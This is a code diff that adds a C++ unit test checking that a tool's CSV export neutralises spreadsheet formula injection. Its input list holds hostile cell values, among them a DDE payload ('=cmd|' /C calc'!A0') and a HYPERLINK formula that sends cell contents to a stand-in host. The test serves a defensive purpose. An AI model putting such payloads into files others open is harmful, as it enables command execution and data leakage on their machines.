@@ -7,6 +7,9 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include <cctype>
+#include <filesystem>
+
 #include <nlohmann/json.hpp>
 
 #include "storage/open_store.h"
@@ -18,6 +21,7 @@ namespace runglass {
 namespace {
 
 using ::testing::AllOf;
+using ::testing::Eq;
 using ::testing::HasSubstr;
 using ::testing::StartsWith;
 using Json = nlohmann::json;
@@ -214,6 +218,46 @@ TEST_F(CtlTest, ExportsACsvFilePerRelation) {
   EXPECT_THAT(contentOf(folder + "/scalar_all.csv"),
               StartsWith("run_id,attempt,rank,source,tag,step,time_ns,value,series_id,superseded,thinned\n"));
   EXPECT_THAT(contentOf(folder + "/event.csv"), HasSubstr("fell off the bus"));
+}
+
+TEST_F(CtlTest, NoTextOfAnExportedCsvIsAFormulaAndNumbersStayNumbers) {
+  const std::vector<std::string> evil = {
+      "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x/\"&A1)", "=cmd|' /C calc'!A0", "\uFF1D1+1", "=a,b"};
+  {
+    auto writer = openStore(m_store).writer();
+    ASSERT_TRUE(writer.ok()) << writer.status().message();
+    const AttemptId attempt = (*writer)->attempt({.run = (*writer)->run({.uuid = "run-uuid-1", .name = "pretrain"}), .key = "0"});
+    for (const std::string& text : evil) {
+      (*writer)->event({.time = wallNow(), .attempt = attempt, .kind = text, .code = text, .message = text});
+      (*writer)->fact({.attempt = attempt, .key = "k" + text, .value = text});
+    }
+    const SeriesId series = (*writer)->series({.attempt = attempt, .metric = "-tag", .kind = SeriesKind::kScalar});
+    (*writer)->scalars(series, std::vector<std::int64_t>{-7}, {}, std::vector<double>{-0.25});
+    ASSERT_TRUE((*writer)->close().ok());
+  }
+  const std::string folder = m_folder.file("csv");
+  ASSERT_EQ(ctl({"export", "--store", m_store, "--run", std::to_string(m_ids.run.value), "--csv", folder}).exit, 0);
+  int cells = 0;
+  for (const auto& file : std::filesystem::directory_iterator(folder)) {
+    const std::string csv = contentOf(file.path());
+    bool quoted = false;
+    for (std::size_t i = 0; i + 1 < csv.size(); ++i) {
+      const bool begins = !quoted && (i == 0 || csv[i - 1] == ',' || csv[i - 1] == '\n');
+      if (csv[i] == '"') quoted = !quoted;
+      if (!begins) continue;
+      ++cells;
+      const std::string_view cell = std::string_view(csv).substr(csv[i] == '"' ? i + 1 : i);
+      const bool number = csv[i] == '-' && (std::isdigit(static_cast<unsigned char>(csv[i + 1])) != 0);
+      EXPECT_TRUE(number || std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos)
+          << file.path().filename() << ": " << cell.substr(0, 40);
+      EXPECT_FALSE(cell.starts_with("\uFF1D")) << file.path().filename();
+    }
+  }
+  EXPECT_GT(cells, 100);
+  const std::string events = contentOf(folder + "/event.csv");
+  EXPECT_THAT(events, HasSubstr(R"x("'=HYPERLINK(""http://x/""&A1)")x"));
+  EXPECT_THAT(contentOf(folder + "/scalar_all.csv"), HasSubstr(R"x(,"'-tag",-7,,-0.25,)x"));
+  EXPECT_THAT(query("SELECT DISTINCT message FROM event WHERE message = '+1'").out, Eq("message\n+1\n")) << "scripts get what is stored";
 }
 
 TEST_F(CtlTest, ExportsAChromeTraceWithExactTimes) {
